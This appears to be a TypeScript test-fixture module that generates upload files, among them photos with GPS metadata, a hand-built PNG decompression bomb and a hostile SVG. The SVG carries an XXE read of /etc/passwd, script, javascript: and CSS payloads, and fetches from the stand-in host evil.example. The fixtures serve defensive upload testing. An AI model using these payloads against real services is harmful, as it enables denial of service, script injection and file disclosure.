/** Files that people and attackers upload. They are made here, byte by byte if no tool can make them. */
import { constants, crc32, deflateRawSync } from 'node:zlib';
import sharp, { type Sharp } from 'sharp';

/** A photo-like picture: every pixel differs a little from its neighbours. */
export function photo(width = 1600, height = 1200) {
  const pixels = Buffer.alloc(width * height * 3);
  for (let index = 0; index < pixels.length; index += 3) {
    const x = (index / 3) % width;
    const y = Math.floor(index / 3 / width);
    pixels[index] = (x * 255) / width;
    pixels[index + 1] = (y * 255) / height;
    pixels[index + 2] = (x ^ y) & 255;
  }
  return sharp(pixels, { raw: { width, height, channels: 3 } });
}

export const jpeg = (width?: number, height?: number) => photo(width, height).jpeg().toBuffer();
/** A photo of a single colour, which is made quickly at any size. */
export const plainJpeg = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: 'teal' } })
    .jpeg()
    .toBuffer();
export const png = (width?: number, height?: number) => photo(width, height).png().toBuffer();
export const webp = (width?: number, height?: number) => photo(width, height).webp().toBuffer();

/** A photo taken with the phone held upright, with its location in the metadata. */
export function phonePhoto(): Promise<Buffer> {
  return photo(800, 400)
    .withExif({
      IFD0: { Make: 'Phone', Model: 'Secret model' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '56/1 57/1 0/1', GPSLongitude: '24/1 6/1 0/1' },
    })
    .withMetadata({ orientation: 6 })
    .jpeg()
    .toBuffer();
}

/** Inserts a segment into a JPEG, right after its start. */
export function withSegment(jpegFile: Buffer, marker: number, data: Buffer): Buffer {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(data.length + 2);
  const segment = Buffer.concat([Buffer.from([0xff, marker]), length, data]);
  return Buffer.concat([jpegFile.subarray(0, 2), segment, jpegFile.subarray(2)]);
}

/**
 * A photo that is red on the left and blue on the right, taken with the phone held upright. When it is shown correctly,
 * red is at the top.
 */
export function taggedPhoto(): Sharp {
  const [width, height] = [800, 400];
  const pixels = Buffer.alloc(width * height * 3);
  for (let index = 0; index < pixels.length; index += 3)
    pixels.set((index / 3) % width < width / 2 ? [220, 20, 20] : [20, 20, 220], index);
  return sharp(pixels, { raw: { width, height, channels: 3 } })
    .withExif({
      IFD0: { Make: 'Phone', Model: 'Secret model', Orientation: '6' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '56/1 57/1 0/1', GPSLongitude: '24/1 6/1 0/1' },
    })
    .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/">Secret place</x:xmpmeta>')
    .withMetadata({ orientation: 6 });
}

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const framed = Buffer.alloc(body.length + 8);
  framed.writeUInt32BE(data.length, 0);
  body.copy(framed, 4);
  framed.writeUInt32BE(crc32(body), body.length + 4);
  return framed;
}

/** A PNG of 570 kB that unpacks to 588 MB: a black picture in full colour that really has the size in its header. */
export function pngBomb(side = 14_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', zeros(side, 3 * side + 1)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Compresses rows of zeros without ever holding them in memory: it repeats one block and computes the checksum. */
function zeros(rows: number, bytesPerRow: number): Buffer {
  const rowsPerBlock = 100;
  const block = deflateRawSync(Buffer.alloc(rowsPerBlock * bytesPerRow), {
    level: 9,
    finishFlush: constants.Z_SYNC_FLUSH,
  });
  const checksum = Buffer.alloc(4);
  checksum.writeUInt16BE((rows * bytesPerRow) % 65_521, 0);
  checksum.writeUInt16BE(1, 2);
  return Buffer.concat([
    Buffer.from([0x78, 0xda]),
    ...Array.from({ length: rows / rowsPerBlock }, () => block),
    Buffer.from([0x03, 0x00]),
    checksum,
  ]);
}

export const html = Buffer.from('<!doctype html><script>alert(1)</script>');

export const svg = (inner: string, attributes = '') =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 30"${attributes}>${inner}</svg>`,
  );

/** A drawing with every known trick: it runs code, loads files, reaches other servers, or becomes something else. */
export const hostileDrawing = Buffer.from(`<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY run "<script>alert(1)</script>"><!ENTITY file SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200" onload="window.hasRun=1">
  <script>window.hasRun = 1; fetch('https://evil.example/script')</script>
  <script xlink:href="https://evil.example/script.js"/>
  <handler xmlns="http://www.w3.org/2001/xml-events">window.hasRun = 1</handler>
  <style>@import "https://evil.example/import.css"; rect { fill: url(https://evil.example/fill); background: u\\72l(//evil.example/hidden) }</style>
  <foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example/img" onerror="window.hasRun=1"/><iframe src="javascript:window.hasRun=1"></iframe></body></foreignObject>
  <image href="https://evil.example/image.png" width="9" height="9"/><image xlink:href="//evil.example/image" width="9" height="9"/>
  <use href="https://evil.example/use.svg#x"/><a href="javascript:window.hasRun=1"><text y="9">&run;&file;</text></a>
  <a><animate attributeName="href" values="javascript:window.hasRun=1" onbegin="window.hasRun=1"/><text>x</text></a>
  <set attributeName="onmouseover" to="window.hasRun=1"/>
  <rect id="shape" width="300" height="200" fill="#2e6650" onclick="window.hasRun=1" style="background:url(https://evil.example/style)"/>
</svg>`);
